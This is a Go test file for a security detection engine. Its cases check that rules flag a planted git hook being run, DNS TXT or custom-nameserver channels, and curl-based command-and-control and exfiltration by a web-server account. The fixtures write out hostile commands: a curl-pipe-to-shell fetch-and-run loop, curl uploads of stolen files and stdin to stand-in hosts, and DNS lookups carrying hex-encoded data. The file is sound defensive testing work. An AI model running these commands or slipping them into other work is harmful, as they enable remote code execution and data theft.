package detect

import (
	"testing"

	"github.com/auditchain/auditchain/parser"
)

// TestPlantedFileRun: a file whose write was reported as persistence, run
// later by whatever triggers it (git runs a hook by a path relative to the
// checkout, a shell runs a script given as its operand), is the plant
// firing; a file nobody flagged, or inline code, is not.
func TestPlantedFileRun(t *testing.T) {
	hook := "/srv/site/.git/hooks/post-merge"
	for _, c := range []struct {
		name  string
		cwd   string
		exe   string
		args  []string
		paths []parser.PathRecord
		want  bool
	}{
		{"git runs the hook by a relative path", "/srv/site", "/usr/bin/dash", []string{"/bin/sh", ".git/hooks/post-merge", "0"},
			[]parser.PathRecord{{Name: ".git/hooks/post-merge", Nametype: "NORMAL"}, {Name: "/bin/sh", Nametype: "NORMAL"}}, true},
		{"a shell given the script", "/", "/usr/bin/bash", []string{"bash", hook}, nil, true},
		{"the file run as a program", "/tmp", hook, []string{hook}, nil, true},
		{"the same name in another checkout", "/srv/other", "/usr/bin/dash", []string{"/bin/sh", ".git/hooks/post-merge"},
			[]parser.PathRecord{{Name: ".git/hooks/post-merge", Nametype: "NORMAL"}}, false},
		{"inline code that names it", "/srv/site", "/usr/bin/dash", []string{"sh", "-c", "cat .git/hooks/post-merge"}, nil, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			e.Observe(s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/dash", hook, true), s.tree)
			ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, PID: 300, PPID: 299,
				UID: parser.NewID(33), EUID: parser.NewID(33), AUID: parser.NewID(parser.Unset), User: "www-data",
				Exe: c.exe, Args: c.args, Cwd: c.cwd, Paths: c.paths}
			f := findingOf(e.Observe(s.next(ev), s.tree), "planted-file-run")
			if (f != nil) != c.want {
				t.Fatalf("planted-file-run fired: %v, want %v", f != nil, c.want)
			}
			if f != nil && (f.Stage != StagePersistence || f.Severity < SeverityHigh) {
				t.Errorf("stage %v severity %v, want persistence, high", f.Stage, f.Severity)
			}
		})
	}
}

// TestDNSChannel: the web account asking for TXT records, or a name
// server of its own choosing, is a DNS channel (stage 7); an ordinary
// lookup is not, and a long encoded label is exfiltration's rule.
func TestDNSChannel(t *testing.T) {
	for _, c := range []struct {
		name string
		args []string
		want bool
	}{
		{"dig TXT", []string{"dig", "+short", "TXT", "1.h.upd.example.lab"}, true},
		{"dig -t txt", []string{"dig", "-t", "txt", "h.example.lab"}, true},
		{"nslookup -type=TXT", []string{"nslookup", "-type=TXT", "h.example.lab"}, true},
		{"host -t TXT", []string{"host", "-t", "TXT", "h.example.lab"}, true},
		{"dig @server", []string{"dig", "+short", "@203.0.113.9", "-p", "5353", "vm.b.example.lab"}, true},
		{"nslookup NAME SERVER", []string{"nslookup", "vm.b.example.lab", "203.0.113.9"}, true},
		{"an ordinary lookup", []string{"dig", "+short", "example.org"}, false},
		{"host NAME", []string{"host", "example.org"}, false},
		{"hex labels are exfiltration's", []string{"dig", "@203.0.113.9", "69642c6e616d652c656d61696c2c63.1.d.example.lab"}, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			f := findingOf(e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/"+c.args[0], c.args...), s.tree), "dns-channel-web")
			if (f != nil) != c.want {
				t.Fatalf("dns-channel-web fired: %v, want %v", f != nil, c.want)
			}
			if f != nil && f.Stage != StageCommandAndControl {
				t.Errorf("stage %v, want command-and-control", f.Stage)
			}
		})
	}
}

// TestChannelTaskReply: a task of a fetch-and-run loop that sends its
// standard input back to the loop's own server is the channel's return
// leg (stage 7); a named file sent there, or stdin sent elsewhere, is
// exfiltration.
func TestChannelTaskReply(t *testing.T) {
	for _, c := range []struct {
		name, rule string
		args       []string
		stage      Stage
	}{
		{"stdin back to the task server", "channel-task-reply", []string{"curl", "-fsS", "--data-binary", "@-", "http://203.0.113.9:8001/r1"}, StageCommandAndControl},
		{"an archive to the task server", "exfil-upload", []string{"curl", "-fsS", "-F", "file=@/tmp/.s.tgz", "http://203.0.113.9:8001/upload"}, StageExfiltrationImpact},
		{"stdin to another server", "exfil-upload", []string{"curl", "--data-binary", "@-", "http://198.51.100.7/x"}, StageExfiltrationImpact},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			s.exec(300, 200, 33, "www-data", "/tmp", "/usr/bin/dash", "sh", "-c", "while :; do curl -fsS http://203.0.113.9:8001/t | sh; sleep 3; done")
			s.exec(301, 300, 33, "www-data", "/tmp", "/usr/bin/dash", "sh")
			fs := e.Observe(s.exec(302, 301, 33, "www-data", "/tmp", "/usr/bin/curl", c.args...), s.tree)
			f := findingOf(fs, c.rule)
			if f == nil {
				t.Fatalf("%s did not fire: %v", c.rule, ids(fs))
			}
			if f.Stage != c.stage {
				t.Errorf("stage %v, want %v", f.Stage, c.stage)
			}
			if other := map[string]string{"channel-task-reply": "exfil-upload", "exfil-upload": "channel-task-reply"}[c.rule]; findingOf(fs, other) != nil {
				t.Errorf("%s fired as well", other)
			}
		})
	}
}
